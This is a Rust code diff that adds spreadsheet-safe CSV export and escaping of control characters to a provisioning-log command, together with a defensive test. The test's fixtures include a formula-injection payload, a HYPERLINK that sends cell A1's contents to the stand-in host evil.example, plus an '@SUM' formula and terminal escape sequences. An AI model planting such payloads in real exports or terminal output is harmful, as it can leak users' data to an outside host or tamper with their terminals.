@@ -4,6 +4,7 @@
 //! The log is read from the job's state store. A running `serve` holds that store locked;
 //! then the log is read through its admin API instead.
 
+use crate::render;
 use chrono::Utc;
 use scimsync_api::logs::{self as shared, LogFilter, LogQuery};
 use scimsync_config::{AdminConfig, SERVICE_FILE};
@@ -212,7 +213,7 @@ pub async fn command(args: &LogsArgs, state: &Path) -> u8 {
 /// The entries in the chosen format (already masked).
 pub fn render(entries: &[LogEntry], format: Format) -> String {
     match format {
-        Format::Csv => shared::to_csv(entries),
+        Format::Csv => csv(entries),
         Format::Jsonl => entries
             .iter()
             .filter_map(|e| serde_json::to_string(e).ok())
@@ -222,9 +223,41 @@ pub fn render(entries: &[LogEntry], format: Format) -> String {
     }
 }
 
+/// Entra's provisioning log download: the API's columns, each cell safe to open in a
+/// spreadsheet (control characters shown, no formulas; see [`render::csv_cell`]).
+fn csv(entries: &[LogEntry]) -> String {
+    let mut out = shared::CSV_HEADER.join(",");
+    out.push_str("\r\n");
+    for e in entries {
+        let row = [
+            e.activity_date_time.to_rfc3339(),
+            e.id.clone(),
+            e.job_id.clone(),
+            e.cycle_id.clone(),
+            e.change_id.clone(),
+            shared::name_of(&e.provisioning_action),
+            shared::name_of(&e.status),
+            e.error_code.map(|c| c.to_string()).unwrap_or_default(),
+            e.reason.clone().unwrap_or_default(),
+            e.source_id.clone(),
+            e.source_display_name.clone(),
+            e.target_id.clone().unwrap_or_default(),
+            e.duration_in_milliseconds.to_string(),
+            shared::steps_text(e),
+            shared::properties_text(e),
+        ];
+        let cells: Vec<String> = row.iter().map(|c| render::csv_cell(c)).collect();
+        out.push_str(&cells.join(","));
+        out.push_str("\r\n");
+    }
+    out
+}
+
+/// `s` shown safely ([`render::visible`]) and cut to `max` characters.
 fn cut(s: &str, max: usize) -> String {
+    let s = render::visible(s);
     if s.chars().count() <= max {
-        s.to_string()
+        s.into_owned()
     } else {
         let mut t: String = s.chars().take(max.saturating_sub(1)).collect();
         t.push('…');
@@ -327,6 +360,41 @@ mod tests {
         }
         assert!(render(&masked, Format::Jsonl).contains("[Redacted]"));
         assert!(render(&masked, Format::Csv).contains("[Redacted]"));
+    }
+
+    /// Issue 12 §2: control characters from source names never reach the terminal through
+    /// the table, and the CSV opens in a spreadsheet without running a formula.
+    #[test]
+    fn hostile_names_are_escaped_in_the_table_and_csv() {
+        let mut e = entry();
+        e.source_display_name = "Ada\u{1b}[31m\u{7}\nLove".into();
+        e.reason = Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into());
+        e.target_id = Some("@SUM(1+1)".into());
+        e.provisioning_steps[0].description = "\u{1b}]0;title\u{7}".into();
+        let entries = vec![shared::mask(&e)];
+
+        let t = render(&entries, Format::Table);
+        assert!(!t.contains(['\u{1b}', '\u{7}']), "{t:?}");
+        assert!(t.contains(r"Ada\u{1b}[31m\u{7}\nLove"), "{t}");
+        assert_eq!(t.lines().count(), 3, "header, one row, count: {t}");
+
+        let csv = render(&entries, Format::Csv);
+        assert!(!csv.contains(['\u{1b}', '\u{7}']), "{csv:?}");
+        assert!(csv.contains(r"Ada\u{1b}[31m\u{7}\nLove"), "{csv}");
+        assert!(
+            csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#),
+            "{csv}"
+        );
+        assert!(csv.contains(",'@SUM(1+1),"), "{csv}");
+        assert!(csv.contains(r"\u{1b}]0;title\u{7}"), "{csv}");
+        // Still one record per entry: no raw line break inside a cell.
+        assert_eq!(csv.matches("\r\n").count(), 2, "{csv:?}");
+        assert!(csv.starts_with(&shared::CSV_HEADER.join(",")));
+
+        // JSON lines stay JSON, escaped by serde.
+        let j = render(&entries, Format::Jsonl);
+        assert!(j.contains(r"Ada\u001b[31m\u0007\nLove"), "{j}");
+        assert_eq!(j.lines().count(), 1);
     }
 
     #[test]
